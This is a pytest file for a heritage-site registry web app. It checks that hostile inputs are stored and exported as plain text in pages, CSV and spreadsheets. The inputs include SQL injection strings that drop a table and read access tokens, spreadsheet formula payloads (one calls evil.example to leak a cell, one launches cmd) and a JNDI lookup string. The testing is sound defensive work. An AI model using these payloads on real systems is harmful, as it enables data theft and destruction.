"""Texts that would run, break out or count as formulas stand everywhere as what they are: text."""

import csv
import io
from html import unescape
from html.parser import HTMLParser
from typing import Any

import httpx
import openpyxl
import pytest

from registry.text import clean
from tests.fixtures.bureau import Bureau
from tests.fixtures.places import HOSTILE

TEXTS = {
    **HOSTILE,
    "sql-quote": "'; DROP TABLE registry.site; --",
    "sql-union": "x' UNION SELECT secret FROM registry.access_token --",
    "sql-dollars": "$$; SELECT pg_sleep(60); $$ %s :name {} \\x00",
    "formula": '=HYPERLINK("https://evil.example/?x="&A1,"Bấm")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(A1:A9)",
    "format": "%(name)s {0} ${jndi:ldap://evil.example}",
    "emoji": "👩‍🎨 Ẩ̂ ﷽ " + "Ẫ" * 40,
}


def hostile_place(text: str) -> dict[str, Any]:
    """A document in which every text is hostile at once."""
    note = {"source": "nguon-la", "note_vi": text, "note_en": text}
    return {
        **dict.fromkeys(("name_vi", "name_en", "address", "summary_vi", "summary_en"), text),
        "other_names": [text, f"2 {text}"],
        "geometry": {"type": "Point", "coordinates": [105.852, 21.0345]},
        "accuracy_m": 20,
        "position_method": "address_estimate",
        "position_date": "2026-11-01",
        "stated": {"commune": {"code": "00070", "basis": text}},
        "centre": {"centre_type": "art_space"},
        "heritage": {
            "category": "memory",
            **dict.fromkeys(("rank_decision", "original_use_vi", "original_use_en"), text),
        },
        "events": {
            "new-1": {"facet": "heritage", "kind": "proposed", "date": "2020", "decision": text, **note}
        },
        "sources": {
            "nguon-la": {"position": 0, "title": text, "publisher": text, "published": text, "kind": "web"}
        },
    }


class Tags(HTMLParser):
    """What a browser would find in a page: its text, its attributes, its scripts."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def require_harmless(answer: httpx.Response, text: str) -> None:
    """A page tells the text, and nothing of it became a tag, a handler or a script."""
    assert answer.status_code == 200, answer.url
    tags = Tags(answer.text)
    assert not [name for name, _ in tags.attributes if name.startswith("on")]
    assert clean(text) in clean(" ".join(tags.texts)), answer.url
    assert "window.x=1>" not in answer.text.replace("&gt;", "")
    assert "'unsafe" not in answer.headers["content-security-policy"]


@pytest.mark.parametrize("name", TEXTS)
def test_a_hostile_text_is_told_as_it_was_written(shared_bureau: Bureau, name: str) -> None:
    text = TEXTS[name]
    with shared_bureau.client("so-van-hoa") as client:
        made = client.post("/api/sites", json={"document": hostile_place(text), "reason": text})
        assert made.status_code == 201, made.text
        key, held = made.headers["location"].rsplit("/", 1)[1], made.json()
        assert held["name_vi"] == held["events"].popitem()[1]["decision"] == clean(text)
        assert held["heritage"]["original_use_en"] == held["stated"]["commune"]["basis"] == clean(text)
        (version,) = client.get(f"/api/sites/{key}/history").json()["versions"]
        assert version["reason"] == clean(text)
        feature = client.get(f"/ogc/collections/sites/items/{key}", params={"f": "json"}).json()["properties"]
        assert feature["name_vi"] == clean(text)
        for path in (f"/sites/{feature['slug']}", f"/sites/{feature['slug']}/history"):
            require_harmless(client.get(path, headers={"Accept": "text/html"}), text)


def test_lists_marks_and_files_tell_them_too_and_hold_no_formula(bureau: Bureau) -> None:
    with bureau.client("so-van-hoa") as client:
        for text in TEXTS.values():
            body = {"document": hostile_place(text), "reason": "thử"}
            assert client.post("/api/sites", json=body).status_code == 201
        asked = client.post(
            "/api/sites",
            json={"document": hostile_place("<script>x</script>"), "reason": "=1+1", "publish": False},
        )
        assert client.get("/api/requests").json()["requests"][0]["reason"] == "=1+1"
        texts = {clean(text) for text in TEXTS.values()}
        marks = client.get("/map/sites.geojson")
        assert marks.headers["content-type"] == "application/geo+json"
        items = "/ogc/collections/sites/items"
        rows = list(
            csv.DictReader(io.StringIO(client.get(items, params={"f": "csv"}).content.decode("utf-8-sig")))
        )
        assert texts <= {row["name_vi"] for row in rows}
        book = openpyxl.load_workbook(io.BytesIO(client.get(items, params={"f": "xlsx"}).content))
        cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert {text for text in texts if text.isprintable()} <= {str(cell.value) for cell in cells}
        assert unescape(asked.json()["patch"]["name_vi"]) == "<script>x</script>"
    counts = "SELECT (SELECT count(*) FROM registry.site), (SELECT count(*) FROM registry.access_token)"
    assert list(bureau.rows(counts)[0]) == [231 + len(TEXTS), 6]
